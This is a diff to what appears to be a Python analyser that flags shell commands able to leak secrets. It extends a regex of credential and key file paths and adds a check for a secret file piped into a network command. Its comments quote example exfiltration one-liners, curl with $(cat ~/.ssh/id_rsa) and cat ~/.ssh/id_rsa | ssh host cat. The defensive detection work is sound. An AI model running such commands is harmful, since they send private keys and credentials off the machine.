@@ -285,7 +285,7 @@ _CODE_ENV = re.compile(
 )
 # Files whose content must not leave the machine unasked (keys, credentials, password hashes).
 _SECRET = re.compile(
-    r"(^|[@=:/])(\.ssh/|\.aws/|\.gnupg/|\.kube/config|\.docker/config\.json|\.netrc$|"
+    r"(^|[@=:/])(\.ssh(/|$)|\.aws(/|$)|\.gnupg(/|$)|\.kube/config|\.docker/config\.json|\.netrc$|"
     r"\.pgpass$|\.git-credentials$|\.npmrc$|\.pypirc$|\.env$|id_(rsa|dsa|ecdsa|ed25519)\b|"
     r"etc/(shadow|gshadow|sudoers)$|\.(pem|key|p12|pfx|kdbx|keystore|jks)$)"
 )
@@ -335,6 +335,10 @@ _GIT_HARMLESS = frozenset(
 )
 
 
+def _secret_words(seg: Segment) -> list[str]:
+    return [w for w in (*seg.words[1:], *seg.inputs) if w is not None and _SECRET.search(w)]
+
+
 def _sends(ctx: _Ctx, seg: Segment, start: int) -> None:
     """What a command that talks to the network can send away: the output of a command
     substitution in its arguments (``curl "https://x/?k=$(cat ~/.ssh/id_rsa)"``), or a secret
@@ -347,7 +351,7 @@ def _sends(ctx: _Ctx, seg: Segment, start: int) -> None:
     if seg.subst:
         why = "sends the output of a command substitution over the network"
         ctx.add(seg.text, "pipeline", "substitution->network", _H, _NET, why)
-    secret = [w for w in (*seg.words[1:], *seg.inputs) if w is not None and _SECRET.search(w)]
+    secret = _secret_words(seg)
     if secret:
         why = f"can send a secret file over the network ({secret[0]})"
         ctx.add(seg.text, "pipeline", "secret->network", _H, _NET, why)
@@ -383,6 +387,8 @@ def _text(ctx: _Ctx, text: str, depth: int) -> None:
         for error in dict.fromkeys(parsed.errors):
             ctx.add(text, "parser", "parse-error", _U, 0, error)
     saved, ctx.stages = ctx.stages, {}
+    secret_stage: dict[int, int] = {}  # pipe -> first stage that names a secret file
+    net_stages: dict[int, list[int]] = {}  # pipe -> stages that talk to the network
     for seg in parsed.segments:
         if seg.redirect is not None:
             _redirect(ctx, seg)
@@ -391,8 +397,18 @@ def _text(ctx: _Ctx, text: str, depth: int) -> None:
             _env(ctx, seg.text, seg.env, command=bool(seg.words))
         start = len(ctx.parts)
         _command(ctx, seg, seg.words, depth)
-        if seg.subst or seg.inputs or _SECRET_HINT.search(seg.text):
+        hinted = _SECRET_HINT.search(seg.text) is not None
+        if seg.subst or seg.inputs or hinted:
             _sends(ctx, seg, start)
+        if seg.pipe >= 0:
+            if hinted and _secret_words(seg):
+                secret_stage.setdefault(seg.pipe, seg.stage)
+            if any(part[4] & _NET for part in ctx.parts[start:]):
+                net_stages.setdefault(seg.pipe, []).append(seg.stage)
+    for pipe, stage in secret_stage.items():  # cat ~/.ssh/id_rsa | ssh host cat
+        if any(later > stage for later in net_stages.get(pipe, ())):
+            why = "a secret file is piped into a command that talks to the network"
+            ctx.add(text, "pipeline", "secret|network", _H, _NET, why)
     if ctx.stages:
         _pipelines(ctx, text)
     ctx.stages = saved
